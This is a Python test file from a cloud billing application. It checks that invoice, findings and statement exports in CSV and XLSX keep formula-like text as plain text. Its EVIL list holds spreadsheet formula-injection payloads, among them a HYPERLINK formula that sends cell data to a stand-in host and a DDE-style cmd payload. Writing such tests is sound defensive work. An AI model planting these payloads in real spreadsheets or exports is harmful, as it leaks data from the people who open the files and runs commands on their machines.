"""A provider's text that looks like a formula stays text in every export (CSV and XLSX)."""

from __future__ import annotations

import csv
import dataclasses
import io
from typing import Any

import openpyxl

from cloudtally.billing.statements import to_csv, to_xlsx
from cloudtally.invoices.generator import generate_invoice, render_focus_csv
from cloudtally.invoices.report import findings_csv, findings_xlsx
from tests.api.conftest import auth
from tests.api.test_invoices_api import fleet, upload, wait
from tests.invoices.test_store import PROVIDER

EVIL = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


# a CR inside a cell ends the row for the CSV importer: upload the rest
UPLOADED = [e for e in EVIL if "\r" not in e]


def _csv_cells(data: bytes) -> list[str]:
    return [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for c in row]


def _xlsx_cells(data: bytes) -> list[Any]:
    wb = openpyxl.load_workbook(io.BytesIO(data))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]


def _assert_no_formulas(data: bytes, fmt: str, *, carries: bool = True) -> None:
    """No formula-like cell; with ``carries``, the export holds the planted text (as text)."""
    if fmt == "csv":
        cells = _csv_cells(data)
        for evil in EVIL:
            assert evil not in cells, evil
        assert not carries or "'" + EVIL[0] in cells
    else:
        cells = _xlsx_cells(data)
        assert not [c.coordinate for c in cells if c.data_type == "f"]
        assert not carries or EVIL[0] in [c.value for c in cells]  # the text itself, exactly


def test_invoice_exports_neutralise_formulas(api, store) -> None:
    client, tokens = api
    admin = tokens["admin"]
    exp, lifecycle = fleet(store, vms=6)
    period = (exp[0].period_start, exp[0].period_end)
    lines, _ = generate_invoice(exp, lifecycle, form="focus", errors=["P1"])
    lines = [
        dataclasses.replace(ln, resource_name=UPLOADED[i % len(UPLOADED)], description=EVIL[0])
        for i, ln in enumerate(lines)
    ]
    data = render_focus_csv(lines, provider=PROVIDER, billing_period=period)
    job = wait(client, admin, upload(client, admin, data, "evil.csv", format="focus"))
    assert job["state"] == "done", (job["message"], job["errors"])
    inv = job["invoice_id"]
    for fmt in ("csv", "xlsx"):
        for what in ("lines", "findings"):
            r = client.get(
                f"/api/v1/invoices/{inv}/{what}",
                params={"format": fmt, "limit": 1000},
                headers=auth(admin),
            )
            assert r.status_code == 200, (what, fmt, r.text[:300])
            _assert_no_formulas(r.content, fmt, carries=what == "lines")


def test_report_and_statement_writers_neutralise_formulas() -> None:
    row = {
        "seq": 1, "rule_id": "P1", "kind": "price", "label": EVIL[0], "label_zh": EVIL[0],
        "severity": "error", "amount_at_stake": 1, "line_numbers": [2], "resource_id": EVIL[0],
        "resource_type": "vcpu", "period_start": None, "period_end": None, "bureau": "b",
        "pool": "p", "provider": "x", "evidence": {}, "message": EVIL[0],
    }  # fmt: skip
    _assert_no_formulas(findings_csv([row]), "csv")
    _assert_no_formulas(findings_xlsx([row]), "xlsx")
    text = to_csv(["name", "amount"], [[EVIL[0], -12]])
    assert "'" + EVIL[0] in _csv_cells(text.encode()) and "-12" in _csv_cells(text.encode())
    out = io.BytesIO()
    to_xlsx(["name"], [[EVIL[0]]], out)
    _assert_no_formulas(out.getvalue(), "xlsx")
